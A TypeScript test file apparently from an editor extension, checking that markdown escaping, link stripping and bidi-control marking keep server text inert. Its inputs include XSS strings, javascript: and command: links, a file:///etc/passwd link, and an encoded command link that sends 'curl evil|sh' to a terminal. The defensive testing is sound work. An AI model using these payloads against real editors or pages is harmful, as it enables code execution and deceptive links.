// Server text in Markdown stays text: each hostile string, escaped by src/ui/markdown.ts and
// rendered by a CommonMark renderer with raw HTML and autolinks switched on (harsher than the
// editor's hovers), gives no link, image, HTML element or markup, and reads as it was sent.
import * as assert from 'node:assert/strict';
import MarkdownIt from 'markdown-it';
import { codeBlock, escapeMarkdown, inlineCode, markBidi, noLinks, shownPlain } from '../../../src/ui/markdown';
import { editorLinks } from '../../harness/editorLinks';

const md = new MarkdownIt({ html: true, linkify: true, typographer: false });

const HOSTILE = [
  '![pixel](https://evil.example/track.png)',
  '[Click me](command:workbench.action.quit)',
  '[x](javascript:alert(1))',
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '<https://evil.example/autolink>',
  'https://evil.com/bare-link',
  'www.evil.com',
  'someone@evil.com',
  '**bold** _em_ ~~strike~~',
  '# Heading',
  'line one\n# Heading\n> quote\n- item\n1. item',
  '    indented code after spaces',
  '&lt;b&gt; &#x3C;img&#x3E; &amp;',
  '`code` and ``more``',
  '```\nfenced\n```',
  'a\\*b\\',
  '|a|b|\n|-|-|\n|1|2|',
  '[ref]\n\n[ref]: https://evil.example "title"',
  '$(zap) codicon and {braces} (parens)',
  'Web App',
  '',
];

/** The text of rendered HTML: tags out, the entities markdown-it writes decoded. */
function textOf(html: string): string {
  return html
    .replace(/<[^>]+>/g, '')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&amp;/g, '&');
}

const flat = (s: string) => s.replace(/\s+/g, ' ');

describe('ui: markdown escaping', () => {
  it('escapeMarkdown: no element at all, and the text reads as sent', () => {
    const problems: string[] = [];
    for (const text of HOSTILE) {
      const html = md.render(escapeMarkdown(text));
      const tags = [...html.matchAll(/<(\w+)/g)].map((m) => m[1]).filter((t) => t !== 'p');
      if (tags.length > 0) {
        problems.push(`${JSON.stringify(text)} → ${tags.join(',')}: ${html}`);
      }
      if (flat(textOf(html)).trim() !== flat(text).trim()) {
        problems.push(`${JSON.stringify(text)} reads ${JSON.stringify(textOf(html))}`);
      }
    }
    assert.deepEqual(problems, []);
  });

  it('inlineCode: one code span that nothing ends early, holding the text', () => {
    const problems: string[] = [];
    for (const text of HOSTILE) {
      const html = md.renderInline(inlineCode(text));
      const tags = [...html.matchAll(/<(\w+)/g)].map((m) => m[1]);
      if (tags.join() !== 'code') {
        problems.push(`${JSON.stringify(text)} → ${html}`);
      } else if (textOf(html) !== flat(text) && !(flat(text).trim() === '' && textOf(html).trim() === '')) {
        problems.push(`${JSON.stringify(text)} reads ${JSON.stringify(textOf(html))}`);
      }
    }
    assert.deepEqual(problems, []);
  });

  it('codeBlock: one block that nothing in it can close, holding the text', () => {
    const problems: string[] = [];
    for (const text of HOSTILE) {
      const html = md.render(codeBlock(text));
      const tags = [...html.matchAll(/<(\w+)/g)].map((m) => m[1]);
      if (tags.join() !== 'pre,code') {
        problems.push(`${JSON.stringify(text)} → ${html}`);
      } else if (textOf(html) !== `${text}\n\n`) {
        problems.push(`${JSON.stringify(text)} reads ${JSON.stringify(textOf(html))}`);
      }
    }
    assert.deepEqual(problems, []);
  });

  it('the unescaped strings would have been markup (a control: the renderer can fail the tests)', () => {
    const markup = HOSTILE.filter((t) => !/javascript:|^\$|^Web App$|^$|^&|^a\\/.test(t));
    assert.ok(markup.length >= 15, `${markup.length} controls`);
    const rendered = markup.map((t) => md.render(t));
    assert.deepEqual(
      rendered.filter((html) => !/<(a|img|script|em|strong|s|h1|blockquote|ul|ol|code|pre|table)\b/.test(html)),
      [],
    );
  });
});

describe('ui: markdown, exact output', () => {
  it('inlineCode pads with a space only when the text starts or ends with a backtick, or is blank', () => {
    assert.equal(inlineCode('plain'), '`plain`');
    assert.equal(inlineCode('a`b'), '``a`b``');
    assert.equal(inlineCode('`start'), '`` `start ``');
    assert.equal(inlineCode('end`'), '`` end` ``');
    assert.equal(inlineCode('   '), '`   `', 'blank: one space between the pads');
    assert.equal(inlineCode(''), '`  `');
    assert.equal(inlineCode(undefined), '`  `');
    assert.equal(inlineCode('a\n\tb'), '`a b`');
  });

  it('codeBlock: CR LF and lone CR become LF, the language keeps word characters and dashes', () => {
    assert.equal(codeBlock('a\r\nb\rc', 'objective-c++'), '\n```objective-c\na\nb\nc\n```\n');
    assert.equal(codeBlock('x'), '\n```text\nx\n```\n');
    assert.equal(codeBlock('x', 'j s!'), '\n```js\nx\n```\n');
    assert.equal(codeBlock(null), '\n```text\n\n```\n');
    assert.equal(escapeMarkdown(null), '');
  });
});

// The editor's own link pattern (test/harness/editorLinks.ts; the host suite checks the running
// editor carries it) finds no link in what noLinks gave back.
describe('notifications and quick input messages: no link forms (issue 22)', () => {
  const linked = [
    '[Retry](command:workbench.extensions.installExtension?%5B%22evil.ext%22%5D)',
    '[Retry](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)',
    '[x](https://evil.example/)',
    '[x](HTTP://evil.example/)',
    '[open](file:///etc/passwd)',
    '[titled](command:workbench.action.quit "Retry")',
    "[titled](https://evil.example/ 'Open')",
    'The server said: [Retry](command:a) and [Edit](command:b)',
    '[[x](command:a)](command:b)',
    '[split\n](command:a)',
  ];

  it('each of these is a link to the editor as written (the pattern is a real one)', () => {
    assert.deepEqual(
      linked.filter((t) => editorLinks(t).length === 0),
      [],
    );
  });

  it('none is, once through noLinks; the text reads the same, an invisible joiner aside', () => {
    for (const text of linked) {
      const plain = noLinks(text);
      assert.deepEqual(editorLinks(plain), [], text);
      assert.equal(plain.replaceAll('\u2060', ''), text);
    }
  });

  it('every `](` is kept apart, however many; text without one is unchanged; undefined stays undefined', () => {
    assert.equal(noLinks(']('.repeat(3)), ']\u2060(]\u2060(]\u2060(');
    assert.equal(noLinks('Signed in to https://api.buddy.works as [Alice] (admin).'), 'Signed in to https://api.buddy.works as [Alice] (admin).');
    assert.equal(noLinks(''), '');
    assert.equal(noLinks(undefined), undefined);
  });
});

describe('ui: bidirectional controls in names, shown marked in notifications and quick inputs (issue 32)', () => {
  it('marks every embedding, override, isolate and directional mark where it stands; other text stays as it is', () => {
    const name = 'deploy\u202Ehs.live\u202C';
    assert.equal(markBidi(name), 'deploy\u27E8U+202E\u27E9hs.live\u27E8U+202C\u27E9');
    const every = ['\u061C', '\u200E', '\u200F', '\u202A', '\u202B', '\u202C', '\u202D', '\u202E', '\u2066', '\u2067', '\u2068', '\u2069'];
    assert.deepEqual(
      every.map((c) => markBidi(`a${c}b`)),
      ['061C', '200E', '200F', '202A', '202B', '202C', '202D', '202E', '2066', '2067', '2068', '2069'].map((hex) => `a\u27E8U+${hex}\u27E9b`),
    );
    for (const plain of ['Web App', 'Zażółć gęślą jaźń', 'שלום', 'مرحبا', 'x\u200By', '']) {
      assert.equal(markBidi(plain), plain, 'right-to-left letters and other invisible characters are not controls');
    }
    assert.equal(markBidi(undefined), undefined);
  });

  it('shownPlain both keeps links from forming and marks the controls', () => {
    const text = shownPlain('[x\u202E](command:evil)');
    assert.equal(text, noLinks('[x\u27E8U+202E\u27E9](command:evil)'));
    assert.deepEqual(editorLinks(text), []);
  });
});
